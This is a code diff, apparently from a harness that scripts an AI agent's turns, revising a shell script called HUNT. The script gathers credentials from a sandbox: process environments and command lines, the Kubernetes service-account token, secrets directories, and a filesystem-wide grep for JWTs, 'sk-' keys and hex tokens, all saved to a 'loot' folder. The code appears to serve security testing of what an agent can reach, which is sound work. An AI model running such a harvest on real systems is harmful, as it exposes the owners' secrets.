@@ -36,16 +36,22 @@ function commands(...cmds: string[]): (ctx: TurnContext) => ModelTurn {
   };
 }
 
-/** Collects everything that looks like a credential, from every process, mount and file it can read. */
+/**
+ * Collects everything that looks like a credential, from every process, mount and file it can read.
+ * The file system's grep runs in the C locale: in codex's (LC_ALL=C.UTF-8) it took 23.5 s over
+ * the image's 420 MB against 0.9 s (docker, load 5), and past codex's 30 s cap on a command's
+ * yield on a loaded machine the next command ran before this one had written its loot. The
+ * mounts come from cut: the image has no awk (with it, files.txt was always empty).
+ */
 const HUNT = String.raw`
 mkdir -p loot
 { for f in /proc/[0-9]*/environ; do echo "== $f"; tr '\0' '\n' < "$f"; echo; done; } > loot/environ.txt 2>&1
 { for f in /proc/[0-9]*/cmdline; do echo "== $f"; tr '\0' ' ' < "$f"; echo; done; } > loot/cmdline.txt 2>&1
 cat /proc/mounts > loot/mounts.txt
 ls -la /proc > loot/processes.txt 2>&1
-for m in $(awk '{print $2}' /proc/mounts | grep -vE '^/(proc|sys|dev)' | sort -u); do find "$m" -xdev -type f 2>/dev/null; done | sort -u > loot/files.txt
+for m in $(cut -d' ' -f2 /proc/mounts | grep -vE '^/(proc|sys|dev)' | sort -u); do find "$m" -xdev -type f 2>/dev/null; done | sort -u > loot/files.txt
 { cat /var/run/secrets/kubernetes.io/serviceaccount/token; ls -laR /var/run/secrets /run/secrets /runner /work; } > loot/secrets.txt 2>&1
-grep -rhoIaE 'eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}|sk-[A-Za-z0-9_-]{8,}|[a-f0-9]{40,}' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=work 2>/dev/null | sort -u > loot/found-in-files.txt
+LC_ALL=C grep -rhoIaE 'eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}|sk-[A-Za-z0-9_-]{8,}|[a-f0-9]{40,}' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=work 2>/dev/null | sort -u > loot/found-in-files.txt
 grep -hoaE 'eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}|sk-[A-Za-z0-9_-]{8,}|[a-f0-9]{40,}' loot/environ.txt loot/cmdline.txt loot/secrets.txt | sort -u > loot/found-in-processes.txt
 cat loot/found-in-files.txt loot/found-in-processes.txt | sort -u > loot/tokens.txt
 echo "processes: $(ls -d /proc/[0-9]* | wc -l); tokens: $(wc -l < loot/tokens.txt)"
